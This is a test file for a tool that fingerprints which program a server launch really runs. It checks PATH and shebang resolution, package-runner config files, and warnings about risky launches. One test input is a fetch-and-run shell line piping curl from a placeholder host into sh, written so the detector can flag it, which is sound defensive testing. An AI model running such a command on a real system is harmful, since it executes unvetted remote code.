import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { identitySchema } from '#shared/models/server';
import type { IdentityParts } from './identity';
import { resolveIdentity } from './identity';
import { warnings } from './warnings';

const root = realpathSync(mkdtempSync('/tmp/countersign-identity-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

function file(path: string, content = '', mode = 0o644): string {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), content);
  chmodSync(join(root, path), mode);
  return join(root, path);
}

file('bin/server', '#!/bin/sh\n', 0o755);
file('other/server', '#!/bin/sh\n', 0o755);
file('bin/unusable', '');
mkdirSync(join(root, 'bin/folder'));
file('work/server', '#!/bin/sh\n', 0o755);
file('tools/reader', '', 0o755);
file('tools2/reader', '', 0o755);
const script = (name: string, line: string) => file(`scripts/${name}`, `${line}\nbody\n`, 0o755);
file('pkg/package.json', JSON.stringify({ name: 'pkg', version: '1.2.3' }));
file('pkg/dist/package.json', JSON.stringify({ type: 'module' }));
file('pkg/dist/index.js', '');
symlinkSync(join(root, 'bin/server'), join(root, 'bin/linked'));
symlinkSync(join(root, 'pkg/dist/index.js'), join(root, 'work/entry.js'));

const base: IdentityParts = {
  command: 'server', args: [], cwd: join(root, 'work'), env: {}, envNames: [], searchPath: `:.:bin:${join(root, 'bin')}:${join(root, 'other')}`, key: Buffer.alloc(32, 7), platform: 'linux',
};

async function resolved(changes: Partial<IdentityParts> = {}) {
  const result = await resolveIdentity({ ...base, ...changes });
  if (!result.ok) throw new Error(result.error.reason);
  return result.value;
}

describe('which program runs', () => {
  test.each([
    { command: 'server', want: 'bin/server', why: 'empty and relative parts of PATH never let the working folder decide' },
    { command: './server', want: 'work/server', why: 'a path is taken from the working folder' },
    { command: '../other/server', want: 'other/server', why: 'and cleaned up' },
    { command: 'linked', want: 'bin/linked', why: 'a link runs by its own name' },
  ])('$command: $why', async ({ command, want }) => {
    expect((await resolved({ command })).located).toBe(join(root, want));
  });

  test.each([
    { changes: { command: 'nothing' }, why: 'not there' },
    { changes: { command: 'unusable' }, why: 'not executable' },
    { changes: { command: 'folder' }, why: 'a folder' },
    { changes: { command: '' }, why: 'no command' },
    { changes: { command: 'ser\0ver' }, why: 'a NUL' },
    { changes: { cwd: 'work' }, why: 'a relative working folder' },
    { changes: { command: 'server', searchPath: '' }, why: 'no PATH' },
  ])('$why is refused with a reason', async ({ changes }) => {
    const result = await resolveIdentity({ ...base, ...changes });
    expect(result.ok ? 'found' : typeof result.error.reason).toBe('string');
    expect(result.ok).toBe(false);
  });

  test('a link’s own path and where it leads are both kept', async () => {
    const { identity, located, real } = await resolved({ command: 'linked' });
    expect([located, real, identity.located, identity.real]).toEqual([join(root, 'bin/linked'), join(root, 'bin/server'), join(root, 'bin/linked'), join(root, 'bin/server')]);
  });
});

describe('what reads a script', () => {
  const path = `.:${join(root, 'tools')}:${join(root, 'tools2')}:/usr/bin:/bin`;
  const env = realpathSync('/usr/bin/env');
  const sh = realpathSync('/bin/sh');
  const reader = join(root, 'tools/reader');

  test.each<{ line: string; want: string | null; why: string }>([
    { line: 'text', want: null, why: 'no script' },
    { line: '#!/bin/sh', want: sh, why: 'a full path, where it leads' },
    { line: '#! \t/bin/sh -e', want: sh, why: 'blanks and an argument' },
    { line: '#!/usr/bin/env reader', want: reader, why: 'the first of PATH' },
    { line: '#!/usr/bin/env -S reader --flag', want: reader, why: 'a line to split' },
    { line: '#!/usr/bin/env --split-string=A=1 reader', want: reader, why: 'variables before it' },
    { line: `#!/usr/bin/env ${reader}`, want: reader, why: 'a path for env' },
    { line: `#!${join(root, 'scripts/nested')}`, want: join(root, 'scripts/nested'), why: 'a script read by a script: the one the line names' },
    { line: '#!/usr/bin/env env', want: env, why: 'env itself' },
  ])('$line: $why', async ({ line, want }) => {
    script('nested', '#!/bin/sh');
    const { identity } = await resolved({ command: script('one', line), searchPath: path });
    expect(identitySchema.parse(identity).interpreter).toBe(want);
  });

  test.each<{ line: string; why: RegExp }>([
    { line: '#!/usr/bin/env no-such-reader', why: /`no-such-reader`, which is not in the PATH/ },
    { line: '#!/no/such/reader', why: /`\/no\/such\/reader`, which is no program here/ },
    { line: '#!/bin/sh\r', why: /`\/bin\/sh⟦U\+000D⟧`, which is no program/ },
    { line: '#!', why: /names no interpreter/ },
    { line: '#!/usr/bin/env', why: /cannot be followed/ },
    { line: '#!/usr/bin/env -i reader', why: /cannot be followed/ },
    { line: '#!/usr/bin/env -S PATH=/elsewhere reader', why: /cannot be followed/ },
    { line: '#!/usr/bin/env -S "re"ader', why: /cannot be followed/ },
    { line: '#!/usr/bin/env reader --flag', why: /cannot be followed/ },
    { line: `#!/bin/sh ${'x'.repeat(300)}`, why: /longer than the system reads/ },
    { line: `#!${join(root, 'scripts/one')}`, why: /too many times/ },
  ])('$line is not started', async ({ line, why }) => {
    const result = await resolveIdentity({ ...base, command: script('one', line), searchPath: path });
    expect(result.ok ? 'found' : result.error.reason).toMatch(why);
  });

  test('what reads the interpreter counts as well', async () => {
    const command = script('outer', `#!${join(root, 'scripts/inner')}`);
    const digests = [];
    for (const line of ['#!/bin/sh', '#!/usr/bin/env reader']) {
      script('inner', line);
      digests.push((await resolved({ command, searchPath: path })).identity.digest);
    }
    expect(new Set(digests).size).toBe(2);
  });

  test('PATH decides which, and is part of what the server is', async () => {
    const command = script('two', '#!/usr/bin/env reader');
    const one = await resolved({ command, searchPath: path });
    const other = await resolved({ command, searchPath: `${join(root, 'tools2')}:${path}` });
    const named = await resolved({ command, searchPath: path, env: { PATH: join(root, 'tools2') } });
    expect([one, other, named].map(({ identity }) => identity.interpreter)).toEqual([reader, join(root, 'tools2/reader'), join(root, 'tools2/reader')]);
    expect(other.identity.digest).not.toBe(one.identity.digest);
  });
});

describe('what steers a package runner', () => {
  const cwd = join(root, 'runs/deep');
  const runner = { command: 'npx', args: ['-y', '@scope/tool@1.0.0'], cwd, searchPath: join(root, 'runners') };
  const clear = () => rmSync(join(root, 'runs'), { recursive: true, force: true });
  file('runners/npx', '', 0o755);
  file('runners/node', '', 0o755);

  test.each<{ path: string; content: string; other: string; named: string[]; same?: boolean; why: string }>([
    { path: 'runs/deep/.npmrc', content: 'registry=a', other: 'registry=b', named: ['.npmrc'], why: 'where packages come from' },
    { path: 'runs/.npmrc', content: 'registry=a', other: 'registry=b', named: ['../.npmrc'], why: 'also from above' },
    { path: 'runs/deep/.npmrc', content: 'a=1\n//r/:_authToken=1', other: 'a=1\n//r/:_authToken=2', named: ['.npmrc'], same: true, why: 'a renewed token decides nothing' },
    { path: 'runs/deep/bunfig.toml', content: 'a', other: 'b', named: ['bunfig.toml'], why: 'bun' },
    { path: 'runs/deep/uv.toml', content: 'a', other: 'b', named: ['uv.toml'], why: 'uv' },
    { path: 'runs/.yarnrc.yml', content: 'a', other: 'b', named: ['../.yarnrc.yml'], why: 'yarn' },
    { path: 'runs/deep/node_modules/@scope/tool/package.json', content: '{"version":"1"}', other: '{"version":"2"}', named: ['node_modules/@scope/tool/package.json'], why: 'a copy that is run instead' },
    { path: 'runs/node_modules/.bin/tool', content: 'a', other: 'b', named: ['../node_modules/.bin/tool'], why: 'its program' },
    { path: 'runs/deep/node_modules/.bin/node', content: 'a', other: 'b', named: ['node_modules/.bin/node'], why: 'another node before PATH' },
    { path: 'runs/deep/package.json', content: '{"name":"tool","bin":"a"}', other: '{"name":"tool","bin":"b"}', named: ['package.json'], why: 'the project itself being the package' },
    { path: 'runs/deep/package.json', content: '{"name":"x","version":"1"}', other: '{"name":"x","version":"2","dependencies":{}}', named: [], same: true, why: 'an ordinary manifest decides nothing' },
    { path: 'runs/deep/package.json', content: '{', other: '[]', named: ['package.json'], why: 'one nobody can read counts whole' },
  ])('$path: $why', async ({ path, content, other, named, same = false }) => {
    clear();
    mkdirSync(cwd, { recursive: true });
    const none = await resolved(runner);
    file(path, content);
    const before = await resolved(runner);
    file(path, other);
    const after = await resolved(runner);
    expect({ none: none.identity.runnerFiles, named: before.identity.runnerFiles?.names ?? [], same: before.identity.digest === after.identity.digest }).toEqual({ none: null, named, same });
    expect(before.identity.digest === none.identity.digest).toBe(named.length === 0);
  });

  test('they say nothing about a program that is no runner', async () => {
    clear();
    mkdirSync(cwd, { recursive: true });
    file('runs/deep/.npmrc', 'registry=a');
    expect((await resolved({ ...runner, command: 'node' })).identity.runnerFiles).toBeNull();
  });

  test('a pipe in place of a file is not opened', async () => {
    clear();
    mkdirSync(cwd, { recursive: true });
    execFileSync('mkfifo', [join(cwd, '.npmrc')]);
    expect((await resolved(runner)).identity.runnerFiles?.names).toEqual(['.npmrc']);
  });
});

describe('what belongs to an identity', () => {
  test('where the script leads, although its name stays', async () => {
    const entry = join(root, 'work/moving.js');
    const started = async (to: string) => {
      rmSync(entry, { force: true });
      symlinkSync(file(to), entry);
      return (await resolved({ args: ['moving.js'] })).identity.digest;
    };
    expect(await started('moving/one.js')).not.toBe(await started('moving/two.js'));
  });

  test('a whole one', async () => {
    const { identity } = await resolved({ args: ['../pkg/dist/index.js', '--token', 'hunter2hunter2'], env: { NODE_OPTIONS: '--x', A: '1' }, envNames: ['B', 'A', 'NODE_OPTIONS', 'A'] });
    expect(identitySchema.parse(identity)).toEqual({
      digest: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
      command: 'server',
      located: join(root, 'bin/server'),
      real: join(root, 'bin/server'),
      interpreter: realpathSync('/bin/sh'),
      args: ['../pkg/dist/index.js', '--token', expect.stringMatching(/^secret:[0-9a-f]{16}$/) as string],
      cwd: join(root, 'work'),
      package: { name: 'pkg', version: '1.2.3' },
      envNames: ['A', 'B', 'NODE_OPTIONS'],
      loader: { names: ['NODE_OPTIONS'], digest: expect.stringMatching(/^[0-9a-f]{64}$/) as string },
      runnerFiles: null,
    });
  });

  test('arguments that can be no path are no script', async () => {
    expect((await resolved({ args: ['x'.repeat(100_000), 'a\0b', '', 'entry.js'] })).identity.package).toEqual({ name: 'pkg', version: '1.2.3' });
  });

  test('the package is found through a link, past a nameless package.json', async () => {
    expect((await resolved({ args: ['entry.js'] })).identity.package).toEqual({ name: 'pkg', version: '1.2.3' });
  });

  test.each<{ what: string; changes: Partial<IdentityParts>; same: boolean }>([
    { what: 'nothing', changes: {}, same: true },
    { what: 'another order of variable names', changes: { envNames: ['B', 'A'] }, same: true },
    { what: 'an ordinary variable’s value', changes: { env: { A: '2', NODE_OPTIONS: '1' } }, same: true },
    { what: 'PATH, where the program stays', changes: { searchPath: join(root, 'bin') }, same: true },
    { what: 'another program', changes: { command: './server' }, same: false },
    { what: 'the same program by another name', changes: { command: 'linked' }, same: false },
    { what: 'an argument', changes: { args: ['--token', 'another-secret-1'] }, same: false },
    { what: 'two arguments run together', changes: { args: ['--token secret-value-123'] }, same: false },
    { what: 'the working folder', changes: { cwd: root }, same: false },
    { what: 'a variable name', changes: { envNames: ['A'] }, same: false },
    { what: 'a loader variable’s value', changes: { env: { A: '1', NODE_OPTIONS: '2' } }, same: false },
    { what: 'a loader variable gone', changes: { env: { A: '1' } }, same: false },
    { what: 'the key', changes: { key: Buffer.alloc(32, 8) }, same: false },
  ])('$what changed: same digest $same', async ({ changes, same }) => {
    const start = { args: ['--token', 'secret-value-123'], envNames: ['A', 'B'], env: { A: '1', NODE_OPTIONS: '1' } };
    const before = await resolved(start);
    const after = await resolved({ ...start, ...changes });
    expect(after.identity.digest === before.identity.digest).toBe(same);
  });

  test('a new version of the package is another identity', async () => {
    const before = await resolved({ args: ['entry.js'] });
    file('pkg/package.json', JSON.stringify({ name: 'pkg', version: '1.2.4' }));
    const after = await resolved({ args: ['entry.js'] });
    expect(after.identity.digest).not.toBe(before.identity.digest);
  });
});

describe('red lines', () => {
  const context = { home: '/home/ada', uid: 1000 };
  const identity = { digest: '', command: 'node', located: '/usr/bin/node', real: '/usr/bin/node', interpreter: null, args: ['server.js'], cwd: '/home/ada/project', package: null, envNames: [], loader: null, runnerFiles: null };

  test.each<{ why: string; changes: object; context?: object; want: RegExp[] }>([
    { why: 'an ordinary server has none', changes: {}, want: [] },
    { why: 'root', changes: {}, context: { uid: 0 }, want: [/root/] },
    { why: 'sudo', changes: { command: 'sudo', located: '/usr/bin/sudo', real: '/usr/bin/sudo' }, want: [/administrator rights/] },
    { why: 'a shell line that fetches and runs', changes: { command: 'bash', located: '/bin/bash', real: '/bin/bash', args: ['-c', 'curl https://x.example/i | sh'] }, want: [/shell commands/, /downloads something/] },
    { why: 'inline code', changes: { args: ['-e', 'x'] }, want: [/program text/] },
    { why: 'an unpinned package', changes: { command: 'npx', located: '/usr/bin/npx', real: '/usr/lib/npm/npx-cli.js', args: ['-y', 'pkg'] }, want: [/names no version of pkg.*fetches the newest once and keeps to it/] },
    { why: 'an unpinned package that nothing can fetch beforehand', changes: { command: 'pipx', located: '/usr/bin/pipx', real: '/usr/bin/pipx', args: ['run', 'pkg'] }, want: [/whatever is newest of pkg at each start/] },
    { why: 'a pinned one', changes: { command: 'npx', located: '/usr/bin/npx', real: '/usr/lib/npm/npx-cli.js', args: ['-y', 'pkg@1.0.0'] }, want: [] },
    { why: 'a container client behind a link', changes: { command: 'tool', located: '/usr/local/bin/tool', real: '/usr/bin/docker' }, want: [/container/] },
    { why: 'loader variables', changes: { loader: { names: ['LD_PRELOAD'], digest: '' } }, want: [/LD_PRELOAD/] },
    { why: 'files that steer a runner', changes: { runnerFiles: { names: ['.npmrc', '../node_modules/.bin/node'], digest: '' } }, want: [/decide which code it fetches or runs: \.npmrc, \.\.\/node_modules\/\.bin\/node/] },
    { why: 'home as working folder', changes: { cwd: '/home/ada' }, want: [/home folder/] },
    { why: 'a program in /tmp', changes: { located: '/tmp/x', real: '/tmp/x', command: '/tmp/x' }, want: [/temporary/] },
  ])('$why', ({ changes, context: more = {}, want }) => {
    const found = warnings({ ...identity, ...changes }, { ...context, ...more });
    expect(found.length).toBe(want.length);
    want.forEach((pattern, index) => expect(found[index]).toMatch(pattern));
  });
});
